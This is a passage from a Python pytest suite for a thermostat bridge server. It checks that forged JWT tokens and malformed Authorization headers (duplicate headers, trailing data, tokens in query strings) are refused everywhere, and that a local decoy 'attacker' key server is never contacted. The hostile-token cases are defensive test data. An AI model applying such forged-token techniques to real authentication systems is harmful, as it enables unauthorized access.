    Transport(
        "two_headers",
        lambda t: [("Authorization", f"Bearer {t}"), ("Authorization", f"Bearer {t}")],
        400,
        "invalid_request",
        "more than one Authorization header",
    ),
    Transport(
        "two_headers_other_scheme",
        lambda t: [("Authorization", f"Bearer {t}"), ("Authorization", "Basic dXNlcjpwYXNz")],
        400,
        "invalid_request",
        "more than one Authorization header",
    ),
    Transport(
        "comma_joined",
        _auth("Bearer {token}, Bearer {token}"),
        400,
        "invalid_request",
        "unexpected data after the token",
    ),
    Transport("trailing_word", _auth("Bearer {token} x"), 400, "invalid_request", "unexpected data after the token"),
    Transport("trailing_garbage", _auth("Bearer {token}AAAA"), 401, "invalid_token", "signature verification failed"),
    Transport("trailing_dot", _auth("Bearer {token}."), 401, "invalid_token", "not a signed JWT"),
    Transport("trailing_dollar", _auth("Bearer {token}$"), 400, "invalid_request", BAD_CHARACTERS),
    Transport("quoted", _auth('Bearer "{token}"'), 400, "invalid_request", BAD_CHARACTERS),
    Transport("bearer_only", _auth("Bearer"), 400, "invalid_request", "Bearer scheme without a token"),
    Transport("bearer_and_spaces", _auth("Bearer    "), 400, "invalid_request", "Bearer scheme without a token"),
    Transport("basic", _auth("Basic dXNlcjpwYXNz"), 401, "unauthorized"),
    Transport("token_scheme", _auth("Token {token}"), 401, "unauthorized"),
    Transport("empty_value", _auth(""), 401, "unauthorized"),
    Transport("no_header", lambda t: [], 401, "unauthorized"),
    Transport(
        "token_in_query",
        lambda t: [],
        401,
        "unauthorized",
        query=lambda t: {"access_token": t},
        sse=(400, "invalid_parameter"),  # a token in the URL is never read; the stream names the parameter
    ),
]

CATEGORIES = (ALG, KEY, KID, SIG, TIME, ISS, SUB, CLAIM, DUP, SEG, BIG)


# --------------------------------------------------------------------------- fixtures


class AttackerServer:
    """Answers anything with a JWKS-looking document and counts every request: nobody may call it."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        self._runner: web.AppRunner | None = None
        self.url = ""

    async def start(self) -> None:
        async def anything(request: web.Request) -> web.Response:
            self.requests.append(f"{request.method} {request.path_qs}")
            return web.json_response({"keys": []})

        app = web.Application()
        app.router.add_route("*", "/{tail:.*}", anything)
        self._runner = web.AppRunner(app, access_log=None)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.url = f"http://127.0.0.1:{self._runner.addresses[0][1]}"

    async def stop(self) -> None:
        if self._runner is not None:
            await self._runner.cleanup()


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def attacker() -> AsyncIterator[AttackerServer]:
    server = AttackerServer()
    await server.start()
    yield server
    await server.stop()


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def stack(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[ServerStack]:
    server = ServerStack(
        tmp_path_factory.mktemp("hostile"),
        thermostats=1,
        sensors=0,
        prefix="h",
        env={
            "rate_limit_per_minute": "1000000",
            "rate_limit_unauthenticated_per_minute": "1000000",
            "ws_handshakes_per_minute": "1000000",
            "ws_allow_no_origin": "true",
        },
    )
    await server.start()
    # The start-up prefetch has run: from here on every JWKS request is one a token caused.
    resp = await server.api.call("GET", "/api/v1/devices", token=server.jwks.make_token())
    assert resp.status == 200
    yield server
    await server.stop()


@pytest.fixture(scope="module")
def forge(stack: ServerStack, attacker: AttackerServer) -> Forge:
    return Forge(stack.jwks, attacker.url)


@pytest_asyncio.fixture(loop_scope="module")
async def socket(stack: ServerStack) -> AsyncIterator[WsClient]:
    """An authenticated admin socket, for refreshes."""
    client = WsClient(stack.api.base_url)
    auth = await client.connect(stack.jwks.make_token("auth0|keeper", ADMIN))
    assert auth["type"] == "auth_ok", auth
    yield client
    await client.close()


# --------------------------------------------------------------------------- the tests


async def test_the_table_is_large_and_covers_every_category() -> None:
    assert len(HOSTILE) >= 100
    assert len({case.id for case in HOSTILE}) == len(HOSTILE)
    assert {case.category for case in HOSTILE} == set(CATEGORIES)
    for category in CATEGORIES:
        assert sum(case.category == category for case in HOSTILE) >= 4, category


def _challenge_description(header: str) -> str | None:
    marker = 'error_description="'
    if marker not in header:
        return None
    return header.split(marker, 1)[1].split('"', 1)[0]


async def _http_refused(stack: ServerStack, method: str, path: str, token: str, case: Hostile) -> None:
    resp = await stack.api.call(method, path, token=token)
    status, code, description = case.http or (401, "invalid_token", case.reason)
    assert resp.status == status, (method, path, resp.text[:300])
    if not code:  # the HTTP parser refused the request before the server saw it
        assert token not in resp.text
        return
    assert resp.error["code"] == code, (method, path)
    header = resp.headers.get("WWW-Authenticate", "")
    assert header.startswith('Bearer realm="thermo_bridge"')
    assert f'error="{code}"' in header
    assert _challenge_description(header) == description
    assert "ticket" not in resp.json()


@pytest.mark.parametrize("case", HOSTILE, ids=[case.id for case in HOSTILE])
async def test_hostile_token_is_refused_by_every_entry_point(
    stack: ServerStack, forge: Forge, attacker: AttackerServer, socket: WsClient, case: Hostile
) -> None:
    token = case.build(forge)
    authenticator = stack.components.authenticator
    jwks_before, accepted_before = stack.jwks.jwks_requests, authenticator.stats.accepted

    await _http_refused(stack, "GET", "/api/v1/devices", token, case)
    await _http_refused(stack, "POST", "/api/v1/events/tickets", token, case)
    await _http_refused(stack, "GET", "/api/v1/events", token, case)

    expected = {"code": "invalid_token", "message": f"Invalid access token: {case.reason}."}
    client = WsClient(stack.api.base_url)
    try:
        auth = await client.connect(token, read=False)
        assert auth == {"type": "auth_invalid", **expected}
        assert client.ws is not None
        closing = await client.ws.receive(timeout=10)
        assert closing.type is aiohttp.WSMsgType.CLOSE
        assert client.ws.close_code == 4002
    finally:
        await client.close()

    refresh = await socket.request({"type": "auth", "access_token": token})
    assert refresh["success"] is False
    assert refresh["error"] == expected

    assert authenticator.stats.accepted == accepted_before
    assert attacker.requests == []
    assert stack.jwks.jwks_requests - jwks_before <= (1 if case.refetch else 0)
    # The refreshed socket is still the keeper's, and usable.
    ping = await socket.send({"type": "ping"})
    await socket.until(lambda: any(m.get("id") == ping and m["type"] == "pong" for m in socket.others), "the pong")
    devices = await socket.request({"type": "get_devices"})
    assert devices["success"] is True


async def _http(
    session: aiohttp.ClientSession, method: str, url: str, headers: list[tuple[str, str]], params: dict[str, str]
) -> tuple[int, dict[str, Any] | None, str, str]:
    async with session.request(method, url, headers=CIMultiDict(headers), params=params) as resp:
        if resp.content_type == "text/event-stream":
            first = await resp.content.readuntil(b"\n\n")
            return resp.status, None, first.decode(), ""
        body = await resp.json() if resp.content_type == "application/json" else None
        return resp.status, body, "", resp.headers.get("WWW-Authenticate", "")


@pytest.mark.parametrize("case", TRANSPORT, ids=[case.id for case in TRANSPORT])
async def test_authorization_header_variants(stack: ServerStack, case: Transport) -> None:
    token = stack.jwks.make_token("auth0|header", ("read:devices",))
    headers = case.headers(token)
    params = case.query(token) if case.query else {}
    base = stack.api.base_url + "/api/v1"
    async with aiohttp.ClientSession() as session:
        for method, path in (("GET", "/devices"), ("POST", "/events/tickets"), ("GET", "/events")):
            status, body, stream, challenge = await _http(session, method, base + path, headers, params)
            expected_status, expected_code = case.status, case.code
            if path == "/events" and case.sse is not None:
                expected_status, expected_code = case.sse
            if expected_status == 200:
                assert status == (201 if path == "/events/tickets" else 200), (path, body)
                if path == "/events":
                    assert stream.startswith("event: status"), stream  # the stream's first message
                continue
            assert status == expected_status, (path, body)
            assert body is not None
            assert body["error"]["code"] == expected_code, path
            if expected_code == "unauthorized":
                assert challenge == 'Bearer realm="thermo_bridge"'  # no error attribute (RFC 6750 §3.1)
            elif expected_code != "invalid_parameter":
                assert _challenge_description(challenge) == case.description, path


async def test_a_token_of_exactly_the_size_limit_is_accepted(stack: ServerStack, forge: Forge) -> None:
    """The limits are not off by one, and the HTTP header limit sits above the token limit."""
    estimate = (MAX - len(forge.token(pad=""))) * 3 // 4
    token = next(
        candidate
        for pad in range(estimate - 40, estimate + 8)
        for extra in range(8)
        if len(candidate := forge.compact(forge.header(pad="y" * extra), forge.payload(pad="x" * pad))) == MAX
    )
    assert len(token) == MAX
    resp = await stack.api.call("GET", "/api/v1/devices", token=token)
    assert resp.status == 200
    client = WsClient(stack.api.base_url)
    try:
        assert (await client.connect(token))["type"] == "auth_ok"
    finally:
        await client.close()


async def test_a_token_is_not_a_ticket(stack: ServerStack) -> None:
    token = stack.jwks.make_token("auth0|ticket", ("read:devices",))
    resp = await stack.api.call("GET", "/api/v1/events", params={"ticket": token})
    assert resp.status == 401
    assert resp.error["code"] == "invalid_ticket"


async def test_tickets_are_minted_for_valid_tokens_only_and_used_once(stack: ServerStack) -> None:
    token = stack.jwks.make_token("auth0|ticket", ("read:devices",))
    minted = await stack.api.call("POST", "/api/v1/events/tickets", token=token)
    assert minted.status == 201
    ticket = minted.json()["ticket"]
    async with (
        aiohttp.ClientSession() as session,
        session.get(stack.api.base_url + "/api/v1/events", params={"ticket": ticket}) as resp,
    ):
        assert resp.status == 200
        assert (await resp.content.readuntil(b"\n\n")).startswith(b"event: status")
    again = await stack.api.call("GET", "/api/v1/events", params={"ticket": ticket})
    assert again.status == 401
    assert again.error["code"] == "invalid_ticket"
    # Without the read permission there is no ticket either.
    writer = stack.jwks.make_token("auth0|ticket", ("write:devices",))
    refused = await stack.api.call("POST", "/api/v1/events/tickets", token=writer)
    assert refused.status == 403
    assert refused.error["code"] == "insufficient_scope"


async def test_the_homes_claim_carries_access(stack: ServerStack) -> None:
    """The configured homes claim (the default here) gives a user the devices of its homes."""
    device = next(iter(stack.sim.devices))
    assert await stack.components.store.set_device_home(device, "alpha")
    with_home = stack.jwks.make_token("auth0|homes", ("read:devices",), homes=["alpha"])
    without = stack.jwks.make_token("auth0|homes", ("read:devices",), custom={"https://other.example/homes": ["alpha"]})
    seen = await stack.api.call("GET", "/api/v1/devices", token=with_home)
    assert [d["id"] for d in seen.json()["devices"]] == [device]
    unseen = await stack.api.call("GET", "/api/v1/devices", token=without)
    assert unseen.json()["devices"] == []


async def test_the_attacker_was_never_contacted(attacker: AttackerServer) -> None:
    assert attacker.requests == []
